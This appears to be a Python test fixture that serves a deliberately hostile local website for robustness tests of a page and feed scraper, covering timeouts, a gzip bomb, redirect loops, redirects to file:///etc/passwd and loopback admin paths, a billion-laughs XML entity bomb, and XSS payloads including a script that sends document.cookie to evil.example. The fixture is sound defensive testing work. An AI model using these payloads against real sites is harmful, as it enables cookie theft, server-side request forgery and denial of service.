"""The hostile half of the local site: every way a web server can misbehave, one path each.

Mounted on the first host of a ``LocalSite(hostile=True)``. ``/hostile/`` lists every route as
a news listing (``ul.news a``), so a ``pages`` source on that URL walks into all of them.
Feeds under ``/feeds/`` are for a ``feed`` source.
"""

from __future__ import annotations

import gzip
import threading
from collections import Counter

from sites import Reply

BOMB_BYTES = 20 * 1024 * 1024  # decompresses to 20 MB; the tests cap bodies at 2 MB

# Text for the pages that should be stored; the words are ours, the £ and dashes are the point.
GOOD_TEXT = ("The council's new shared payroll team – run jointly with its neighbour – saved £250,000 in its first year. "
             "Staff at the café in the civic centre now take card payments only.")

LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY a "lollollollollollollollollollol">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
 <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
 <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
 <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
 <!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
 <!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">
 <!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">
]>
<rss version="2.0"><channel><title>&i;</title>
<item><title>&i;</title><link>{base}/hostile/good-feed-item</link><description>&i;</description></item>
</channel></rss>"""

BROKEN_FEED = """<?xml version="1.0"?><rss version="2.0"><channel><title>Broken
<item><title>First item survives</title><link>{base}/hostile/good-feed-item</link></item>
<item><title>Unclosed <b>tags & stray ampersands<link>{base}/hostile/never"""

#: path -> what the route is for; the listing at /hostile/ links to each.
LISTED = {
    "good": "an ordinary article",
    "slow": "headers arrive after the read timeout",
    "drip": "a body trickling one byte at a time (total timeout)",
    "hang": "accepts and never answers",
    "huge-declared": "Content-Length over the cap",
    "huge-streamed": "a chunked body over the cap",
    "bomb": "a gzip bomb",
    "loop": "a redirect loop",
    "chain": "a redirect chain longer than max_redirects",
    "short-chain": "two redirects, then a good page",
    "to-ftp": "a redirect to ftp:",
    "to-file": "a redirect to file:",
    "to-internal": "a redirect to an unnamed loopback address",
    "to-localhost": "a redirect to localhost",
    "retry-429": "429 with Retry-After, then fine",
    "retry-503": "503 with Retry-After twice, then fine",
    "error-500": "a permanent 500",
    "cp1252": "Windows-1252 bytes declared as UTF-8",
    "no-charset": "Windows-1252 bytes with no charset anywhere",
    "pdf": "a PDF",
    "binary": "an octet-stream of random bytes",
    "empty": "200 with an empty body",
    "script": "script payloads in title and body",
    "dup?utm_source=newsletter": "a tracking-parameter variant of 'dup'",
    "dup#comments": "a fragment variant of 'dup'",
    "dup": "the page the variants point at",
    "query?b=2&a=1": "query parameters in one order",
    "query?a=1&b=2": "the same parameters in another order",
}
EXTRA_LINKS = ["/private/secret-report", "/hostile/dup"]


def article(title: str, body: str, charset: str | None = "utf-8", extra_head: str = "") -> str:
    meta = f'<meta charset="{charset}">' if charset else ""
    return (f"<!doctype html><html><head>{meta}<title>{title}</title>{extra_head}</head><body><main><article>"
            f"<h1>{title}</h1><time datetime=\"2026-03-02\">2 March 2026</time><p>{body}</p><p>{body}</p>"
            f"</article></main></body></html>")


class HostileRoutes:
    def __init__(self, owner) -> None:
        self.owner = owner
        self.hits: Counter = Counter()
        self._lock = threading.Lock()
        self._bomb = gzip.compress(b"\0" * BOMB_BYTES, compresslevel=9)

    def _count(self, path: str) -> int:
        with self._lock:
            self.hits[path] += 1
            return self.hits[path]

    def route(self, handler, path: str, query: dict[str, str]) -> Reply | None:
        base = handler.server.site.base
        silent = self.owner.silent.base if self.owner.silent else base
        if path == "/hostile/":
            links = "".join(f'<li><a href="/hostile/{p}">{d}</a></li>' for p, d in LISTED.items())
            links += "".join(f'<li><a href="{p}">extra</a></li>' for p in EXTRA_LINKS)
            links += f'<li><a href="{silent}/anything">a silent host</a></li>'
            return Reply(body=f'<html><body><ul class="news">{links}</ul></body></html>'.encode())
        if not path.startswith(("/hostile/", "/feeds/")):
            return None
        name = path.split("/", 2)[2]
        hit = self._count(path)
        port = handler.server.server_address[1]
        if name in ("good", "good-feed-item", "dup", "query", "chain-end"):
            return Reply(body=article(f"Shared payroll saves money ({name})", GOOD_TEXT).encode(), etag=f'"{name}"')
        if name == "slow":
            return Reply(delay=3.0, body=b"too late")
        if name == "drip":
            return Reply(body=article("Drip", GOOD_TEXT * 20).encode(), drip=0.05)
        if name == "hang":
            return Reply(hang=True)
        if name == "huge-declared":
            return Reply(body=b"x" * 10, headers={"Content-Length": str(500 * 1024 * 1024)})
        if name == "huge-streamed":
            return Reply(body=b"<p>" + b"x" * (3 * 1024 * 1024), content_type="text/html")
        if name == "bomb":
            return Reply(body=self._bomb, headers={"Content-Encoding": "gzip"})
        if name == "loop":
            return Reply(302, headers={"Location": "/hostile/loop-b"})
        if name == "loop-b":
            return Reply(302, headers={"Location": "/hostile/loop"})
        if name.startswith("chain"):
            step = int(query.get("n", "0"))
            return Reply(301, headers={"Location": f"/hostile/chain?n={step + 1}"})
        if name == "short-chain":
            return Reply(302, headers={"Location": "/hostile/short-chain-2"})
        if name == "short-chain-2":
            return Reply(307, headers={"Location": "/hostile/chain-end"})
        if name == "to-ftp":
            return Reply(302, headers={"Location": "ftp://127.0.0.2/pub/file.txt"})
        if name == "to-file":
            return Reply(302, headers={"Location": "file:///etc/passwd"})
        if name == "to-internal":
            return Reply(302, headers={"Location": f"http://127.0.0.9:{port}/admin"})
        if name == "to-localhost":
            return Reply(302, headers={"Location": f"http://localhost:{port}/admin"})
        if name == "retry-429":
            if hit == 1:
                return Reply(429, b"slow down", headers={"Retry-After": "1"})
            return Reply(body=article("Recovered after 429", GOOD_TEXT).encode())
        if name == "retry-503":
            if hit <= 2:
                return Reply(503, b"busy", headers={"Retry-After": "1"})
            return Reply(body=article("Recovered after 503", GOOD_TEXT).encode())
        if name == "error-500":
            return Reply(500, b"<html><body>Internal Server Error</body></html>")
        if name == "cp1252":
            return Reply(body=article("Café – £250,000 saved", GOOD_TEXT, charset="utf-8").encode("cp1252"))
        if name == "no-charset":
            return Reply(body=article("Café – no charset", GOOD_TEXT, charset=None).encode("cp1252"), content_type="text/html")
        if name == "pdf":
            return Reply(body=b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF", content_type="application/pdf")
        if name == "binary":
            return Reply(body=bytes(range(256)) * 40, content_type="application/octet-stream")
        if name == "empty":
            return Reply(body=b"")
        if name == "script":
            title = "&lt;script&gt;alert('title')&lt;/script&gt; Library hours"
            body = ("Opening hours change next month.<script>document.location='http://evil.example/'+document.cookie</script>"
                    " <img src=x onerror=alert(1)> The &lt;b&gt;mobile library&lt;/b&gt; keeps its route. " + GOOD_TEXT)
            head = f'<meta property="og:title" content="{title}"><script>alert("head")</script>'
            return Reply(body=article(title, body, extra_head=head).encode())
        if name == "good.xml":
            links = [f"{base}/news/item-{n}" for n in range(3)] + [f"http://127.0.0.9:{port}/news/item-0", f"http://localhost:{port}/news/item-1"]
            items = "".join(f"<item><title>Item {n}</title><link>{link}</link></item>" for n, link in enumerate(links))
            return Reply(body=f'<?xml version="1.0"?><rss version="2.0"><channel><title>Good</title>{items}</channel></rss>'.encode(),
                         content_type="application/rss+xml")
        if name == "laughs.xml":
            return Reply(body=LAUGHS.format(base=base).encode(), content_type="application/rss+xml")
        if name == "broken.xml":
            return Reply(body=BROKEN_FEED.format(base=base).encode(), content_type="application/rss+xml")
        if name == "html.xml":
            return Reply(body=b"<html><body><p>This is not a feed.</p></body></html>", content_type="application/rss+xml")
        if name == "empty.xml":
            return Reply(body=b"", content_type="application/rss+xml")
        return None
